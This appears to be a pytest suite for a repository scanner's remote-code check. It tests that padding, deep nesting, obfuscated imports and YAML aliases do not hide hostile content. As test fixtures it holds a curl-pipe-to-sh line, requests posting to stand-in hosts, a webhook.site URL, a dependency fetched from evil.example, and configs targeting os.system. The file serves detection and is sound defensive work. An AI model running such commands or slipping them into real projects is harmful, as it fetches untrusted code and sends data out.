"""Code: neither harmless things in numbers nor sheer length hide a grave one."""

from __future__ import annotations

import json
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Final

import pytest

from scanner.checks.remote_code import CHECK
from scanner.code.reach import imports_in
from scanner.file_check import FileVerdict
from tests.assets.make_file_assets import write_all
from tests.scanner.check_runs import findings_of

_SENT: Final = "https://webhook.site/x"
_SENDING: Final = "def f():\n    import requests\n    requests.post('https://x.example')"
_PIPED: Final = "curl http://x.example/a | sh"


def _verdicts(folder: Path, files: Mapping[str, str]) -> dict[str, FileVerdict]:
    """The worst verdict of every file that something was said about."""
    found = findings_of(CHECK, write_all(folder, {name: text.encode() for name, text in files.items()}))
    verdicts: dict[str, FileVerdict] = {}
    for each in found:
        verdict = CHECK.verdict_of(each)
        for place in each.locations if verdict is not None else ():
            kept = verdicts.setdefault(place.path, verdict)
            verdicts[place.path] = max(kept, verdict, key=lambda one: one.rank)
    return verdicts


@pytest.mark.parametrize("before", [0, 3495, 3990, 4000, 100_000])
@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.py", f"x = '{{}} {_SENT}'"),
        ("a.sh", f"echo {{}}; {_PIPED}"),
        ("a.sh", f"echo {{}}; {_PIPED} {{}}"),
    ],
)
def test_length_hides_no_telling_text(name: str, text: str, before: int, tmp_path: Path) -> None:
    source = text.replace("{}", "a " * (before // 2))
    assert _verdicts(tmp_path, {name: source})[name] is FileVerdict.ATTACK


def test_text_that_a_piece_cuts_off_is_read_as_it_goes_on(tmp_path: Path) -> None:
    source = f"x = '{'a' * 3992}.profiler {'a' * 4000}'"
    assert _verdicts(tmp_path, {"a.py": source})["a.py"] is FileVerdict.PLAIN_DATA


@pytest.mark.parametrize("count", [1, 40])
def test_calls_that_no_loader_reaches_hide_none_that_is_as_bad_anywhere(count: int, tmp_path: Path) -> None:
    calls = "import requests\n" + "requests.get('https://x.example')\n" * count
    source = f"{calls}def f():\n    return '{_SENT}'\n"
    assert _verdicts(tmp_path, {"train.py": source})["train.py"] is FileVerdict.ATTACK


@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml"])
@pytest.mark.parametrize(
    "others", [["./own"] * 40, [f"./own{number}" for number in range(40)], ["torch"] * 6000]
)
def test_harmless_requirements_hide_none_from_elsewhere(others: list[str], name: str, tmp_path: Path) -> None:
    lines = [*others, "evil @ https://evil.example/evil.whl"]
    text = "\n".join(lines) if name.endswith("txt") else f"[project]\ndependencies = {lines}"
    assert _verdicts(tmp_path, {name: text})[name] is FileVerdict.ATTACK


def test_requirements_that_are_not_read_are_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scanner.code.requirements._LINES_LIMIT", 100)
    lines = "\n".join(f"own-{number}" for number in range(101))
    assert _verdicts(tmp_path, {"requirements.txt": lines}) == {
        "requirements.txt": FileVerdict.NEEDS_CLASS_INSTANCE
    }


@pytest.mark.parametrize("levels", [1, 60, 400])
@pytest.mark.parametrize("is_inside", [False, True])
def test_depth_hides_no_code_that_configuration_names(levels: int, is_inside: bool, tmp_path: Path) -> None:
    value: object = (
        "other/repo--modeling_x.M" if is_inside else {"auto_map": {"A": "other/repo--modeling_x.M"}}
    )
    for _ in range(levels):
        value = {"a": value}
    config = json.dumps({"auto_map": value} if is_inside else value)
    assert _verdicts(tmp_path, {"config.json": config}) == {"config.json": FileVerdict.NOT_READABLE}


@pytest.mark.parametrize(
    "source",
    [
        "from .evil import x",
        "".join(f"from .a{number} import b\n" for number in range(3100)) + "from .evil import x",
        "".join(f"import a{number}\n" for number in range(3100)) + "import evil",
        "if True: from .evil import x",
        "x = 1; import evil",
        "try: from . import evil\nexcept ImportError: pass",
        "from .evil \\\n    import x",
        "import os, \\\n    evil",
        "from . import (os,  # one\n    evil)",
        "from.evil import(x)",
        "\fimport evil",
        "x = 1\rimport evil",
        "import importlib\nimportlib.import_module(name='.evil', package='a')",
    ],
)
def test_import_is_followed_however_it_is_written(source: str, tmp_path: Path) -> None:
    assert (
        _verdicts(tmp_path, {"modeling_x.py": source, "evil.py": _SENDING})["evil.py"] is FileVerdict.ATTACK
    )


def test_import_of_a_file_whose_name_is_not_latin_is_followed(tmp_path: Path) -> None:
    files = {"modeling_x.py": "from .模型 import x", "模型.py": _SENDING}
    assert _verdicts(tmp_path, files)["模型.py"] is FileVerdict.ATTACK


@pytest.mark.parametrize(
    "piece",
    ["from a import (\n", "from a import (#;", "\\\n", "; ", "import a,", "from a.b;", "import_module( "],
)
def test_imports_of_a_hostile_file_are_found_in_time(piece: str) -> None:
    source = (piece * (1024**2 // len(piece))).encode()
    started = time.monotonic()
    assert len(list(imports_in(source, "modeling_x.py"))) < 10
    assert time.monotonic() - started < 20


@pytest.mark.parametrize(
    "text",
    [
        "a: &t os.system\n_target_: *t",
        "a: &t _target_\n*t : os.system",
        "a: &t x.y\nb: &t os.system\n_target_: *t",
        "a: [&t os.system]\nb:\n  _target_: *t",
        "a: target\n_target_: os.system",
        "a: [target]\n_target_: os.system",
        "a: {class_path: class_path}\nclass_path: os.system",
        "? {a: target}\n: target\n_target_: os.system",
    ],
)
def test_neither_alias_nor_value_hides_a_target(text: str, tmp_path: Path) -> None:
    assert _verdicts(tmp_path, {"config.yaml": text}) == {"config.yaml": FileVerdict.ATTACK}
